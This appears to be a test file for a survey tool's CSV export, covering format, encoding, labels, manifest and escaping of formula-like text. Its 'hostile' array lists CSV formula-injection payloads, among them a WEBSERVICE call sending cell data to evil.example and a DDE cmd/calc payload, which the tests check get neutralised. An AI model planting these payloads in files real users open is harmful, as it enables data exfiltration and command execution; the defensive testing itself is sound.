import { spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import { readFile } from "node:fs/promises";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { Definition } from "../../../surveys/definition.ts";
import { startApplication, type TestApplication } from "../../support/application.ts";
import { fieldStudy, keepResponses } from "../../support/fieldStudy.ts";
import { codeIn, parsed, takeExport } from "../../support/takeExport.ts";

const definition: Definition = {
  elements: [
    {
      type: "radiogroup",
      name: "sex",
      title: { default: "性别", en: "Sex" },
      choices: [
        { value: "f", text: { default: "女", en: "Woman" } },
        { value: "m", text: { default: "男", en: "Man" } },
      ],
    },
    {
      type: "checkbox",
      name: "needs",
      title: "需要",
      choices: [
        { value: "masks", text: { default: "口罩", en: "Masks" } },
        { value: "food", text: { default: "食物", en: "Food" } },
      ],
      showOtherItem: true,
    },
    {
      type: "matrix",
      name: "trust",
      // The title of another question: columns are named by code.
      title: "需要",
      rows: ["tv", "web"],
      columns: [
        { value: 1, text: { default: "低", en: "low" } },
        { value: 2, text: { default: "高", en: "high" } },
      ],
    },
    { type: "text", name: "change", inputType: "number", min: -100, max: 100 },
    { type: "ranking", name: "order", choices: ["a", "b"] },
    { type: "comment", name: "story", visibleIf: "{sex} = 'f'" },
  ],
};

let application: TestApplication;

beforeAll(async () => {
  application = await startApplication({ studyClock: () => new Date("2026-03-01T12:00:00Z") });
  const study = await fieldStudy(application.services, definition);
  await application.services.collectors.put("flood", { collector: "wechat", title: "镇里的公众号", gridUnit: null });
  await keepResponses(application.services, study, [
    {
      day: "2026-02-28",
      weight: 1.5,
      gridUnit: "3306",
      collector: "wechat",
      answers: {
        sex: "f",
        needs: ["masks", "other"],
        "needs-Comment": '帐篷, "大"',
        trust: { tv: 2, web: 1 },
        change: -3,
        order: ["b", "a"],
        story: "第一行\r\n=1+1",
      },
    },
    { weight: 0, flags: ["burst"], answers: { sex: "m", needs: ["food"], trust: { web: 2 } } },
    { answers: { change: 2.5 } },
  ]);
});
afterAll(() => application.close());

const header =
  "response day questionnaire_version language collector grid_unit seconds flags weight sex needs.masks needs.food needs.other needs.comment trust.tv trust.web change order.a order.b story".split(
    " ",
  );

/** Records without the response's id, in a fixed order. */
function withoutIds(records: readonly (readonly string[])[]): string[] {
  return records.map(([, ...rest]) => rest.join("|")).sort();
}

describe("a data file", () => {
  test("has a column a code, options as 0 and 1, matrix rows apart, and everything known of a response", async () => {
    const { header: found, records } = await takeExport(application, "flood", { flavour: "plain" });
    expect(found).toEqual(header);
    expect(withoutIds(records)).toEqual([
      '2026-02-28|1|zh-CN|wechat|3306|||1.5|f|1|0|1|帐篷, "大"|2|1|-3|2|1|第一行\r\n=1+1',
      "2026-03-01|1|zh-CN||||burst|0|m|0|1|0|||2||||",
      "2026-03-01|1|zh-CN|||||||||||||2.5|||",
    ]);
    expect(new Set(records.map(([id]) => id)).size).toBe(3);
  });

  test("is byte for byte the golden file, its rows put in order", async () => {
    const { bytes } = await takeExport(application, "flood", { values: "both", language: "en" });
    const golden = await readFile(new URL("./golden/flood.both.excel.csv", import.meta.url));
    // An id that begins with a hyphen has an apostrophe in front, as every text that could be a formula.
    const [first = "", ...rows] = bytes.toString("utf8").split(/\r\n(?="'?[\w-]{22}",)/);
    const inOrder = [first, ...rows.map((row) => row.replace(/^"'?[\w-]{22}"/, '"id"')).sort()].join("\r\n");
    expect(Buffer.from(inOrder).equals(golden)).toBe(true);
  });

  test("for Excel begins with a byte order mark and ends its lines with CRLF; the plain one does neither", async () => {
    const excel = await takeExport(application, "flood", { flavour: "excel" });
    expect(excel.bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(excel.bytes.toString("utf8").split("\r\n")).toHaveLength(5);
    const plain = await takeExport(application, "flood", { flavour: "plain" });
    expect(plain.bytes[0]).toBe('"'.charCodeAt(0));
    expect(plain.bytes.toString("utf8").split("\r\n")).toHaveLength(2);
  });

  test("shows the wording in the language asked for", async () => {
    const { header: found, records } = await takeExport(application, "flood", { values: "labels", language: "en" });
    expect(found.slice(1)).toEqual(header.slice(1));
    expect(records.map((record) => record[header.indexOf("sex")]).sort()).toEqual(["", "Man", "Woman"]);
    expect(records.map((record) => record[header.indexOf("trust.web")]).sort()).toEqual(["", "high", "low"]);
    expect(records.map((record) => record[header.indexOf("collector")]).sort()).toEqual(["", "", "镇里的公众号"]);
  });

  test("has a manifest with its rows, its bytes and their SHA-256", async () => {
    const { bytes, manifest } = await takeExport(application, "flood");
    expect(manifest).toMatchObject({
      study: "flood",
      state: "complete",
      file: "flood_2026-03-01_excel.csv",
      rows: 3,
      responsesInStudy: 3,
      columns: header.length,
      bytes: bytes.length,
      sha256: createHash("sha256").update(bytes).digest("hex"),
      questionnaireVersions: [1],
      asOf: "2026-03-01T12:00:00.000Z",
    });
  });

  test("has its rows in an order that differs from file to file", async () => {
    const other = await fieldStudy(application.services, { elements: [{ type: "comment", name: "n" }] }, "order");
    const texts = Array.from({ length: 60 }, (_, number) => String(number));
    await keepResponses(
      application.services,
      other,
      texts.map((n) => ({ answers: { n } })),
    );
    const first = await takeExport(application, "order");
    const second = await takeExport(application, "order");
    const inFile = ({ records }: typeof first): (string | undefined)[] => records.map((record) => record.at(-1));
    expect(inFile(first)).not.toEqual(inFile(second));
    expect(inFile(first).sort()).toEqual(inFile(second).sort());
  });
});

const hostile = [
  '=WEBSERVICE("https://evil.example/"&A1)',
  "+1+1",
  "-1+1",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\tx",
  " =1+1",
  "\u00a0=1+1",
  "\u200b=1+1",
  "\ufeff=1+1",
  "\u3000\u2060@x",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  "'=1+1",
  "''=1+1",
  "'x",
  'a\n"=1+1",b',
  '","=1+1","',
  ";=1+1;",
  'He said: "no", then\r\nleft; ok',
  '"',
  "    ",
  "=",
  "ID",
  "3-1",
  "🙂=1",
  "e\u0301 \u202eabc",
];
/** Those that begin as a formula does, after what cannot be seen and after apostrophes. */
const guardedTexts = new Set(hostile.filter((text) => /^'*[\s\u200b\u2060\ufeff]*[=+\-@＝＋－＠\t]/.test(text)));

describe("a text that a spreadsheet would run", () => {
  let bytes: Buffer;
  beforeAll(async () => {
    const study = await fieldStudy(application.services, { elements: [{ type: "comment", name: "story" }] }, "hostile");
    await keepResponses(
      application.services,
      study,
      hostile.map((story) => ({ answers: { story } })),
    );
    ({ bytes } = await takeExport(application, "hostile", { flavour: "plain" }));
  });

  test("gets an apostrophe, and no other text is changed", () => {
    const { records } = parsed(bytes);
    const expected = hostile.map((text) => (guardedTexts.has(text) ? `'${text}` : text));
    expect(records.map((record) => record.at(-1)).sort()).toEqual(expected.sort());
    expect(guardedTexts.size).toBe(20);
  });

  test.skipIf(spawnSync("python3", ["--version"]).status !== 0)(
    "comes back whole through Python's csv and the lines in the document",
    async () => {
      const program = `${await codeIn("export.md", "python")}
import csv, io, json, sys
rows = list(csv.reader(io.StringIO(sys.stdin.buffer.read().decode("utf-8"), newline="")))
print(json.dumps([[len(row) for row in rows], sorted(unguarded(row[-1]) for row in rows[1:])]))`;
      const { stdout, stderr } = spawnSync("python3", ["-c", program], { input: bytes, encoding: "utf8" });
      expect(stderr).toBe("");
      const [widths, texts] = JSON.parse(stdout) as [number[], string[]];
      expect(new Set(widths)).toEqual(new Set([10]));
      const byCodePoint = (one: string, other: string): number => Buffer.compare(Buffer.from(one), Buffer.from(other));
      expect(texts.sort(byCodePoint)).toEqual([...hostile].sort(byCodePoint));
    },
  );
});
